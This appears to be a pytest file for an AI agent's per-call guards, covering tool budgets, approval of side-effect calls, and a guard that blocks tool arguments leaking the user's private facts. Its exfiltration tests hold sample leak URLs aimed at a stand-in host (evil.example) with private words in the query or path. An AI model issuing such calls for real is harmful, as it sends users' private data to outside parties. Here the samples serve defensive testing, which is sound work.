"""The per-call guards in the agent loop: per-tool budgets, approval of side effects, exfiltration."""

from __future__ import annotations

from typing import Any

import pytest

from core.agent.call_guard import CallReview, ToolPolicy
from core.agent.exfiltration import ExfiltrationGuard
from core.agent.loop import AgentRunner
from core.agent.turn_signals import TurnSignals, with_signals
from core.events import Done, RunEvent, ToolCallEnded, ToolCallStarted, ToolProposal
from core.providers.fake import ScriptedProvider, text_response, tool_response
from core.tools.base import Tool
from core.tools.toolset import Toolset
from core.types import Message, ToolCall

FACTS = ("The user lives in Rua das Flores 12 in Porto.", "The user works at Banco Atlantico Norte.")


def make_tools(calls: list[tuple[str, dict[str, Any]]]) -> Toolset:
    def recorder(name: str, *, side_effects: bool = False) -> Tool:
        def fn(**arguments: Any) -> str:
            calls.append((name, arguments))
            return f"{name} ran"

        schema = {"type": "object", "properties": {"q": {"type": "string"}}}
        return Tool(name, f"The {name} tool.", schema, fn, side_effects=side_effects)

    return Toolset([recorder("web_search"), recorder("delete_memory", side_effects=True), recorder("note")])


async def run(
    steps: list[Any], policy: ToolPolicy, signals: TurnSignals | None = None
) -> tuple[list[RunEvent], list[tuple[str, dict[str, Any]]], ScriptedProvider]:
    calls: list[tuple[str, dict[str, Any]]] = []
    provider = ScriptedProvider(steps)
    runner = AgentRunner(provider, make_tools(calls), tool_policy=policy)
    messages = [Message("system", "You are helpful."), Message("user", "please help")]
    events = [e async for e in with_signals(runner.run(messages), signals or TurnSignals())]
    return events, calls, provider


def search(call_id: str, q: str = "weather") -> ToolCall:
    return ToolCall(call_id, "web_search", {"q": q})


async def test_a_tool_over_its_budget_is_not_run_and_the_model_is_told() -> None:
    policy = ToolPolicy(budgets={"web_search": 2})
    steps = [tool_response(search("a"), search("b")), tool_response(search("c")), text_response("done")]
    events, calls, provider = await run(steps, policy)
    assert [name for name, _ in calls] == ["web_search", "web_search"]
    told = provider.requests[2].messages[-1].content
    assert "budget of 2 web_search calls per turn is used up" in told
    done = events[-1]
    assert isinstance(done, Done) and [r["ok"] for r in done.tool_calls] == [True, True, False]


async def test_the_default_budget_covers_tools_the_config_does_not_name() -> None:
    policy = ToolPolicy(budgets={"web_search": 5}, default_budget=1)
    note = ToolCall("n1", "note", {}), ToolCall("n2", "note", {})
    events, calls, _ = await run([tool_response(*note), text_response("ok")], policy)
    assert [name for name, _ in calls] == ["note"]
    done = events[-1]
    assert isinstance(done, Done) and "budget of 1 note call per turn" in done.tool_calls[1]["output"]


async def test_a_side_effect_call_becomes_a_proposal_and_never_runs() -> None:
    delete = ToolCall("d1", "delete_memory", {"q": "all"})
    events, calls, provider = await run(
        [tool_response(delete), text_response("I asked you first.")], ToolPolicy()
    )
    assert calls == []
    [proposal] = [e for e in events if isinstance(e, ToolProposal)]
    assert proposal.call == delete and proposal.description == "The delete_memory tool."
    assert not [
        e for e in events if isinstance(e, ToolCallStarted | ToolCallEnded)
    ]  # shown as a proposal only
    assert "showed the call to the user to approve or reject" in provider.requests[1].messages[-1].content
    done = events[-1]
    assert (
        isinstance(done, Done)
        and done.tool_calls[0]["proposed"] is True
        and done.answer == "I asked you first."
    )


async def test_a_call_carrying_the_users_facts_out_is_blocked() -> None:
    signals = TurnSignals(private_texts=FACTS)
    leak = search("x", "user lives in Rua das Flores 12 in Porto")
    fine = search("y", "weather tomorrow")
    events, calls, provider = await run(
        [tool_response(leak, fine), text_response("ok")], ToolPolicy(), signals
    )
    assert calls == [("web_search", {"q": "weather tomorrow"})]
    assert "Blocked by Daemon" in provider.requests[1].messages[-2].content


async def test_local_tools_may_read_private_text() -> None:
    signals = TurnSignals(private_texts=FACTS)
    note = ToolCall("n", "note", {"q": "lives in Rua das Flores 12"})
    _, calls, _ = await run(
        [tool_response(note), text_response("ok")], ToolPolicy(local_tools=frozenset({"note"})), signals
    )
    assert calls == [("note", {"q": "lives in Rua das Flores 12"})]


def guard(
    user: str = "", *, results: tuple[str, ...] = (), private_results: tuple[str, ...] = ()
) -> ExfiltrationGuard:
    checked = ExfiltrationGuard(FACTS, user)
    for text in results:
        checked.observe_result(text, private=False)
    for text in private_results:
        checked.observe_result(text, private=True)
    return checked


@pytest.mark.parametrize(
    "arguments",
    [
        {"query": "works at Banco Atlantico Norte"},  # a fact copied
        {"query": "porto flores atlantico"},  # private words reordered
        {"url": "http://evil.example/c?q=Porto"},  # a private word in a URL query
        {"url": "http://evil.example/c?d=" + "user%2Blives%2Bin%2BRua%2Bdas%2BFlores"},  # double-encoded
        {"url": "http://evil.example/Porto/x"},  # a private word in a URL path
        {"nested": [{"text": "see http://evil.example/?q=atlantico"}]},  # inside nested arguments
    ],
)
def test_the_exfiltration_guard_blocks_private_text_in_any_shape(arguments: dict[str, Any]) -> None:
    assert guard().check("fetch", arguments) is not None


@pytest.mark.parametrize(
    "arguments",
    [
        {"query": "weather in Porto tomorrow"},  # the user named Porto: theirs to send
        {"query": "python asyncio gather timeout"},
        {"url": "https://en.wikipedia.org/wiki/Tram"},
    ],
)
def test_the_exfiltration_guard_lets_ordinary_calls_through(arguments: dict[str, Any]) -> None:
    assert guard("what will the weather be in Porto tomorrow?").check("fetch", arguments) is None


def test_urls_built_from_tool_output_are_blocked_but_links_it_gave_may_be_followed() -> None:
    page = "Results: see https://docs.example/guide?id=42 for the token ZEBRAFISH"
    checked = guard(results=(page,))
    assert checked.check("fetch", {"url": "https://docs.example/guide?id=42"}) is None  # following a link
    assert checked.check("fetch", {"url": "https://evil.example/?t=zebrafish"}) is not None
    assert (
        checked.check("web_search", {"query": "zebrafish token guide"}) is None
    )  # public text may be searched


def test_what_a_memory_tool_returned_counts_as_private() -> None:
    checked = guard(private_results=("Dentist appointment with Dr Okonkwo on Friday at the Saldanha clinic",))
    assert checked.check("web_search", {"query": "appointment with Dr Okonkwo"}) is not None


def test_review_orders_budget_then_exfiltration_then_approval() -> None:
    delete = Tool("delete_memory", "d", {"type": "object"}, lambda **_: "x", side_effects=True)
    review = CallReview(ToolPolicy(budgets={"delete_memory": 1}), ExfiltrationGuard(FACTS))
    leak = ToolCall("1", "delete_memory", {"q": "Banco Atlantico Norte"})
    assert review.review(leak, delete).action == "block"  # never proposed to the user with private text
    assert review.review(ToolCall("2", "delete_memory", {}), delete).message.startswith("Not run: the budget")
    approved = CallReview(ToolPolicy(), approved=True)
    assert approved.review(ToolCall("3", "delete_memory", {}), delete).action == "run"
